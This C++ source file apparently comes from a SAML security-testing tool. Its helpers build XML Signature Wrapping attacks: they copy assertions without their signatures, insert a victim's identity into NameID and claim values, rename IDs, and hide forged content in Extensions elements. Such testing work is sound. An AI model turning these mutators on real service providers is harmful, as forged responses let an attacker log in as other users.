// SPDX-License-Identifier: Apache-2.0
// The DOM helpers of the XSW mutators: forged copies, victim content, ID renaming, hiding places.
#include "mutators/keys/dsig_math.hpp"
#include "mutators/mutators.hpp"
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators::xsw {
namespace {

namespace n = core::names;

bool is_claim(const xmlNode* attribute) {
  auto name = core::attribute(attribute, "Name").value_or("");
  return name == n::claim_email || name == n::claim_name;
}

void rename_all(xmlNode* node) {
  if (core::attribute(node, "ID")) {
    core::set_attribute(node, "ID", core::new_saml_id());
  }
  for (xmlNode* child : core::element_children(node)) {
    rename_all(child);
  }
}

}  // namespace

core::Result<std::string> victim(const Target& target) {
  auto given = string_param(target, "victim");
  if (!given) {
    return core::fail(given.error());
  }
  return given->value_or(std::string(k_default_victim));
}

void write_victim(xmlNode* subtree, std::string_view victim) {
  for (xmlNode* name_id : core::descendants_named(subtree, n::ns_assertion, "NameID")) {
    core::set_text(name_id, victim);
  }
  for (xmlNode* attribute : core::descendants_named(subtree, n::ns_assertion, "Attribute")) {
    if (is_claim(attribute)) {
      for (xmlNode* value : core::children_named(attribute, n::ns_assertion, "AttributeValue")) {
        core::set_text(value, victim);
      }
    }
  }
}

xmlNode* response(const Target& target) {
  xmlNode* root = target.doc->root();
  return core::is_element(root, n::ns_protocol, "Response") ? root : nullptr;
}

xmlNode* first_assertion(const Target& target) {
  xmlNode* root = response(target);
  return root ? core::child_named(root, n::ns_assertion, "Assertion") : nullptr;
}

xmlNode* signature_of(const xmlNode* element) {
  return core::child_named(element, n::ns_dsig, "Signature");
}

xmlNode* copy_without_signature(const xmlNode* element) {
  xmlNode* copy = xmlDocCopyNode(const_cast<xmlNode*>(element), element->doc, 1);
  if (xmlNode* signature = signature_of(copy)) {
    core::remove_node(signature);
  }
  return copy;
}

core::Result<Ids> ids_param(const Target& target, Ids fallback) {
  std::string_view fallback_name = fallback == Ids::fresh ? "fresh" : fallback == Ids::root_only ? "root_only" : "shared";
  auto ids = choice_param(target, "ids", "fresh|root_only|shared", fallback_name);
  if (!ids) {
    return core::fail(ids.error());
  }
  return *ids == "fresh" ? Ids::fresh : *ids == "root_only" ? Ids::root_only : Ids::shared;
}

void rename_ids(xmlNode* subtree, Ids ids, const std::optional<std::string>& root_id) {
  if (ids == Ids::fresh) {
    rename_all(subtree);
  }
  if (ids != Ids::shared) {
    core::set_attribute(subtree, "ID", root_id.value_or(core::new_saml_id()));
  }
}

core::Result<std::string> choice_param(const Target& target, std::string_view name, std::string_view choices,
                                       std::string_view fallback) {
  auto given = string_param(target, name);
  if (!given) {
    return core::fail(given.error());
  }
  std::string value = given->value_or(std::string(fallback));
  std::string_view rest = choices;
  while (!rest.empty()) {
    auto bar = rest.find('|');
    if (rest.substr(0, bar) == value) {
      return value;
    }
    rest = bar == std::string_view::npos ? std::string_view() : rest.substr(bar + 1);
  }
  return core::fail(core::Reason::mutator_params_invalid,
                    "/" + std::string(name) + ": expected one of " + std::string(choices));
}

xmlNode* extensions_of(xmlNode* response, bool qualified) {
  if (qualified) {
    if (xmlNode* found = core::child_named(response, n::ns_protocol, "Extensions")) {
      return found;
    }
  }
  xmlNode* status = core::child_named(response, n::ns_protocol, "Status");
  xmlNode* extensions = xmlNewDocNode(response->doc, nullptr, BAD_CAST "Extensions", nullptr);
  if (qualified) {
    xmlSetNs(extensions, xmlSearchNsByHref(response->doc, response, BAD_CAST n::ns_protocol.data()));
  } else {
    xmlNewNs(extensions, BAD_CAST "", nullptr);  // xmlns="": no namespace, whatever is in scope
  }
  status ? insert_before(status, extensions) : append_child(response, extensions);
  return extensions;
}

core::Result<std::string> enveloped_digest(const xmlNode* element) {
  auto canonical = dsig::exc_c14n(element, signature_of(element));
  if (!canonical) {
    return core::fail(canonical.error());
  }
  return dsig::sha256_base64(*canonical);
}

void insert_before(xmlNode* anchor, xmlNode* node) {
  xmlAddPrevSibling(anchor, node);
}

void append_child(xmlNode* parent, xmlNode* node) {
  xmlAddChild(parent, node);
}

}  // namespace samlt::idp::mutators::xsw
